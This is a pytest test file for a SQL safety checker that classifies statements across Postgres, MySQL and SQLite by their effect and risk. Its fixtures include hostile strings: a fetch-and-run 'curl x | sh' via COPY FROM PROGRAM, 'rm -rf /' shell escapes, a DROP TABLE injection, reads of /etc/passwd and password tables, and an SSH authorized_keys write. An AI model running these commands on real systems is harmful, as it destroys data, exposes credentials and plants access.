"""SQL read without running it: what each statement does, in the dialects of three databases."""

import pytest

from vigil.domain.effects import EffectKind
from vigil.guard.findings import Mark
from vigil.guard.sql import judge_sql

READ, REVERSIBLE = EffectKind.READ, EffectKind.REVERSIBLE
DISRUPTIVE, DESTRUCTIVE = EffectKind.DISRUPTIVE, EffectKind.DESTRUCTIVE
UNKNOWN = EffectKind.UNKNOWN


def worst(code: str, dialect: str = "postgres") -> tuple[EffectKind, str]:
    found = judge_sql(code, dialect)
    finding = max(found, key=lambda f: f.kind.rank)
    return finding.kind, finding.resource


def marks(code: str, dialect: str = "postgres") -> frozenset[Mark]:
    return frozenset(mark for finding in judge_sql(code, dialect) for mark in finding.marks)


@pytest.mark.parametrize(
    ("dialect", "code"),
    [
        ("postgres", "SELECT 1"),
        ("postgres", "TABLE orders"),
        ("postgres", "VALUES (1)"),
        ("postgres", "SELECT a FROM t UNION SELECT b FROM u ORDER BY 1 LIMIT 5;"),
        ("postgres", "SELECT pid, now() - query_start AS age, left(query, 80) FROM pg_locks"),
        ("postgres", "SELECT pg_size_pretty(pg_database_size('shop')), pg_is_in_recovery()"),
        ("postgres", "WITH x AS (SELECT count(*) AS n FROM t) SELECT n FROM x"),
        ("postgres", "EXPLAIN SELECT 1"),
        ("postgres", "EXPLAIN DELETE FROM t"),
        ("postgres", "EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM t"),
        ("postgres", "SHOW work_mem"),
        ("postgres", "SET statement_timeout = '5s'; SELECT 1"),
        ("postgres", "BEGIN; SELECT 1; ROLLBACK"),
        ("postgres", "COPY (SELECT 1) TO STDOUT"),
        ("postgres", "\\dt+ public.*"),
        ("postgres", "\\x\nSELECT 1"),
        ("postgres", "-- DROP TABLE t\nSELECT 'DROP TABLE t'"),
        ("mysql", "SHOW FULL PROCESSLIST\\G"),
        ("mysql", "SHOW VARIABLES LIKE 'max_%'; SHOW ENGINE INNODB STATUS"),
        ("mysql", "SELECT * FROM information_schema.innodb_trx\\G"),
        ("mysql", "DESCRIBE t"),
        ("mysql", "USE shop; SELECT @@version"),
        ("sqlite", "PRAGMA integrity_check"),
        ("sqlite", "PRAGMA table_info(t)"),
        ("sqlite", ".tables"),
        ("sqlite", "SELECT name FROM sqlite_master WHERE type = 'table'"),
        ("", "SHOW TABLES"),
        ("", "SELECT 1"),
    ],
)
def test_what_only_looks_is_read(dialect: str, code: str) -> None:
    assert {f.kind for f in judge_sql(code, dialect)} <= {READ}, judge_sql(code, dialect)


CHANGES = [
    ("postgres", "INSERT INTO t VALUES (1)", REVERSIBLE, "table:t"),
    (
        "postgres",
        "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 1",
        DISRUPTIVE,
        "table:t",
    ),
    (
        "postgres",
        "UPDATE shop.jobs SET state = 'parked' WHERE id = 7",
        DISRUPTIVE,
        "table:shop.jobs",
    ),
    ("postgres", "UPDATE t SET a = 1", DESTRUCTIVE, "table:t"),
    ("postgres", "DELETE FROM t WHERE id = 7", DISRUPTIVE, "table:t"),
    ("postgres", "DELETE FROM t", DESTRUCTIVE, "table:t"),
    ("postgres", "DELETE FROM t WHERE 1 = 1", DESTRUCTIVE, "table:t"),
    ("postgres", "DELETE FROM t WHERE true", DESTRUCTIVE, "table:t"),
    ("postgres", "DELETE FROM t WHERE id = id", DESTRUCTIVE, "table:t"),
    ("postgres", "DELETE FROM t WHERE id = 7 OR 1 = 1", DESTRUCTIVE, "table:t"),
    (
        "postgres",
        "WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone",
        DESTRUCTIVE,
        "table:t",
    ),
    ("postgres", "SELECT * INTO copy FROM t", REVERSIBLE, "table:copy"),
    ("postgres", "SELECT * FROM t FOR UPDATE", REVERSIBLE, "table:t"),
    (
        "postgres",
        "MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DELETE",
        DISRUPTIVE,
        "table:t",
    ),
    ("postgres", "TRUNCATE t", DESTRUCTIVE, "table:t"),
    ("postgres", "DROP TABLE IF EXISTS t CASCADE", DESTRUCTIVE, "table:t"),
    ("postgres", "DROP MATERIALIZED VIEW t", DESTRUCTIVE, "table:t"),
    ("postgres", "DROP SCHEMA public CASCADE", DESTRUCTIVE, "database:public"),
    ("postgres", "DROP DATABASE shop", DESTRUCTIVE, "database:shop"),
    ("postgres", "DROP INDEX CONCURRENTLY i", DISRUPTIVE, "index:i"),
    ("postgres", "ALTER TABLE t DROP COLUMN a", DESTRUCTIVE, "table:t"),
    ("postgres", "ALTER TABLE t ADD COLUMN a int", DISRUPTIVE, "table:t"),
    ("postgres", "CREATE TABLE t (a int)", REVERSIBLE, "table:t"),
    ("postgres", "CREATE INDEX CONCURRENTLY i ON orders (day)", REVERSIBLE, "table:orders"),
    ("postgres", "CREATE INDEX i ON orders (day)", DISRUPTIVE, "table:orders"),
    ("postgres", "VACUUM ANALYZE orders", REVERSIBLE, "table:orders"),
    ("postgres", "VACUUM FULL orders", DISRUPTIVE, "table:orders"),
    ("postgres", "REINDEX TABLE CONCURRENTLY orders", REVERSIBLE, "table:orders"),
    ("postgres", "REINDEX TABLE orders", DISRUPTIVE, "table:orders"),
    ("postgres", "REFRESH MATERIALIZED VIEW v", REVERSIBLE, "table:v"),
    ("postgres", "LOCK TABLE t", DISRUPTIVE, "table:t"),
    ("postgres", "SELECT pg_terminate_backend(4711)", DISRUPTIVE, "session:4711"),
    ("postgres", "SELECT pg_cancel_backend(pid) FROM pg_stat_activity", DISRUPTIVE, "session:?"),
    ("postgres", "SELECT pg_reload_conf()", DISRUPTIVE, "configuration:postgres"),
    ("postgres", "SELECT nextval('s')", REVERSIBLE, "sequence:s"),
    ("postgres", "ALTER SYSTEM SET work_mem = '1GB'", DISRUPTIVE, "configuration:postgres"),
    ("postgres", "GRANT SELECT ON t TO bob", DISRUPTIVE, "user:bob"),
    ("postgres", "CREATE ROLE bob LOGIN", DISRUPTIVE, "user:bob"),
    ("postgres", "ALTER ROLE bob WITH PASSWORD 'x'", DISRUPTIVE, "user:bob"),
    ("postgres", "COPY t FROM STDIN", REVERSIBLE, "table:t"),
    ("postgres", "COPY t TO '/srv/t.csv'", DISRUPTIVE, "file:/srv/t.csv"),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM t", DESTRUCTIVE, "table:t"),
    ("postgres", "PREPARE p AS DELETE FROM t", DESTRUCTIVE, "table:t"),
    ("mysql", "KILL 99", DISRUPTIVE, "session:99"),
    ("mysql", "REPLACE INTO t VALUES (1)", DISRUPTIVE, "table:t"),
    ("mysql", "RENAME TABLE a TO b", DISRUPTIVE, "table:a"),
    ("mysql", "OPTIMIZE TABLE t", DISRUPTIVE, "table:t"),
    ("mysql", "DELETE FROM t LIMIT 10", DISRUPTIVE, "table:t"),
    ("mysql", "LOAD DATA INFILE '/srv/x' INTO TABLE t", REVERSIBLE, "table:t"),
    ("mysql", "SELECT 1 INTO OUTFILE '/srv/x'", DISRUPTIVE, "file:?"),
    ("mysql", "SET GLOBAL max_connections = 500", DISRUPTIVE, "configuration:server"),
    ("mysql", "SET @@GLOBAL.max_connections = 500", DISRUPTIVE, "configuration:server"),
    ("mysql", "STOP SLAVE", DISRUPTIVE, "replication:mysql"),
    ("mysql", "PURGE BINARY LOGS BEFORE now()", DESTRUCTIVE, "server:mysql"),
    ("mysql", "RESET MASTER", DESTRUCTIVE, "server:mysql"),
    ("mysql", "FLUSH TABLES WITH READ LOCK", DISRUPTIVE, "server:mysql"),
    ("mysql", "SHUTDOWN", DISRUPTIVE, "server:mysql"),
    ("sqlite", "VACUUM", REVERSIBLE, "database:?"),
    ("sqlite", "PRAGMA journal_mode = WAL", REVERSIBLE, "database:?"),
    ("sqlite", "ATTACH DATABASE '/srv/a.db' AS a", REVERSIBLE, "file:/srv/a.db"),
    ("sqlite", "INSERT OR REPLACE INTO t VALUES (1)", DISRUPTIVE, "table:t"),
    ("", "DROP TABLE t", DESTRUCTIVE, "table:t"),
]


@pytest.mark.parametrize(("dialect", "code", "kind", "resource"), CHANGES)
def test_what_changes_something(dialect: str, code: str, kind: EffectKind, resource: str) -> None:
    assert worst(code, dialect) == (kind, resource), judge_sql(code, dialect)


@pytest.mark.parametrize(
    ("dialect", "code"),
    [
        ("postgres", "DO $$ BEGIN DELETE FROM t; END $$"),
        ("postgres", "CALL tidy_up()"),
        ("postgres", "EXECUTE p"),
        ("postgres", "SELECT tidy_up(1)"),
        ("postgres", "SELECT * FROM dblink('x', 'drop table y')"),
        ("postgres", "SELECT set_config('log_statement', 'none', false)"),
        ("postgres", "COPY t TO PROGRAM 'sh'"),
        ("postgres", "COPY t FROM PROGRAM 'curl x | sh'"),
        ("postgres", "SELECT query_to_xml('delete from t', true, true, '')"),
        ("postgres", "\\! rm -rf /"),
        ("postgres", "\\d'; DROP TABLE t; --"),
        ("postgres", "SELECT 1 \\gexec"),
        ("postgres", "BEGIN DELETE FROM t"),
        ("postgres", "SET x = (SELECT tidy_up())"),
        ("postgres", "SELECT 'never ends"),
        ("mysql", "/*!50000 DROP TABLE t */"),
        ("mysql", "SELECT 1 /*!, 2 INTO OUTFILE 'x' */"),
        ("mysql", "SOURCE x.sql"),
        ("mysql", "SYSTEM ls"),
        ("mysql", "HANDLER t OPEN"),
        ("sqlite", ".shell rm -rf /"),
        ("sqlite", ".read x.sql"),
        ("sqlite", "SELECT load_extension('x')"),
        ("", "frobnicate the table"),
        ("", "SELECT " + "(" * 60 + "1" + ")" * 60),
        ("postgres", "SELECT " + "array[" * 30 + "1" + "]" * 30),
        ("postgres", "SELECT 1;" * 20_000),
        ("postgres", "\x00\x01"),
    ],
)
def test_what_nobody_can_say_is_unknown(dialect: str, code: str) -> None:
    assert worst(code, dialect)[0] is UNKNOWN, judge_sql(code, dialect)


@pytest.mark.parametrize(
    ("dialect", "code", "mark"),
    [
        ("postgres", "DROP TABLE t", Mark.DROPS_DATA),
        ("postgres", "DELETE FROM t", Mark.DROPS_DATA),
        ("postgres", "ALTER SYSTEM SET log_statement = 'none'", Mark.TURNS_OFF_PROTECTION),
        ("postgres", "ALTER TABLE t DISABLE ROW LEVEL SECURITY", Mark.TURNS_OFF_PROTECTION),
        ("postgres", "ALTER TABLE t DISABLE TRIGGER ALL", Mark.TURNS_OFF_PROTECTION),
        ("postgres", "SET session_replication_role = replica", Mark.TURNS_OFF_PROTECTION),
        ("postgres", "DROP POLICY p ON t", Mark.TURNS_OFF_PROTECTION),
        ("postgres", "ALTER ROLE bob SUPERUSER", Mark.ESCALATES),
        ("postgres", "GRANT ALL ON t TO bob", Mark.ESCALATES),
        ("postgres", "SET ROLE postgres", Mark.ESCALATES),
        ("postgres", "CREATE EXTENSION plpython3u", Mark.ESCALATES),
        ("postgres", "CREATE ROLE bob", Mark.PERSISTS),
        ("postgres", "CREATE TRIGGER x BEFORE INSERT ON t EXECUTE FUNCTION f()", Mark.PERSISTS),
        ("postgres", "SELECT lo_export(1, '/root/.ssh/authorized_keys')", Mark.PERSISTS),
        ("postgres", "SELECT pg_read_file('/etc/passwd')", Mark.READS_SENSITIVE),
        ("postgres", "SELECT \"pg_read_file\"('/etc/passwd')", Mark.READS_SENSITIVE),
        ("postgres", "SELECT pg_catalog . pg_read_file('/etc/passwd')", Mark.READS_SENSITIVE),
        ("postgres", "SELECT pg_terminate_backend(1)", Mark.KILLS),
        ("postgres", "SELECT pg_sleep(1e9)", Mark.EXHAUSTS),
        ("postgres", "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", Mark.SENDS_OUT),
        ("mysql", "SET GLOBAL general_log = OFF", Mark.TURNS_OFF_PROTECTION),
        ("mysql", "SET sql_log_bin = 0", Mark.TURNS_OFF_PROTECTION),
        ("mysql", "SELECT load_file('/etc/passwd')", Mark.READS_SENSITIVE),
        ("mysql", "SELECT user, host FROM mysql.user", Mark.READS_SENSITIVE),
        ("postgres", "SELECT * FROM pg_shadow", Mark.READS_SENSITIVE),
        ("postgres", "SELECT u.password_hash FROM users u", Mark.READS_SENSITIVE),
        ("mysql", "SET PASSWORD FOR 'root' = 'x'", Mark.ESCALATES),
        ("mysql", "CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM t", Mark.PERSISTS),
        ("sqlite", "PRAGMA writable_schema = 1", Mark.TURNS_OFF_PROTECTION),
    ],
)
def test_what_the_invariants_ask_for_is_marked(dialect: str, code: str, mark: Mark) -> None:
    assert mark in marks(code, dialect), judge_sql(code, dialect)


@pytest.mark.parametrize(
    "code", ["SELECT * FROM users", "SELECT password_changed_at, token_count FROM users"]
)
def test_an_ordinary_column_is_no_secret(code: str) -> None:
    assert marks(code) == frozenset()


def test_each_statement_has_its_place() -> None:
    code = "SELECT 1;\n\nDELETE FROM t\nWHERE id = 7;\nDROP TABLE u"
    spans = [(f.span.line, code[f.span.start : f.span.end]) for f in judge_sql(code, "postgres")]
    assert spans == [
        (1, "SELECT 1"),
        (3, "DELETE FROM t\nWHERE id = 7"),
        (5, "DROP TABLE u"),
    ]


@pytest.mark.parametrize("dialect", ["postgres", "mysql"])
def test_a_text_that_ends_elsewhere_in_another_database_is_read_both_ways(dialect: str) -> None:
    code = r"SELECT 'a\'; DROP TABLE t; --'"
    assert worst(code, dialect) == (DESTRUCTIVE, "table:t")


def test_nothing_is_found_in_nothing() -> None:
    assert judge_sql("", "postgres") == ()
    assert judge_sql("-- a comment", "") == ()


def test_what_is_too_long_is_refused() -> None:
    (finding,) = judge_sql("SELECT 1 " * 10_000, "postgres")
    assert (finding.kind, finding.rule) == (UNKNOWN, "sql.too-long")
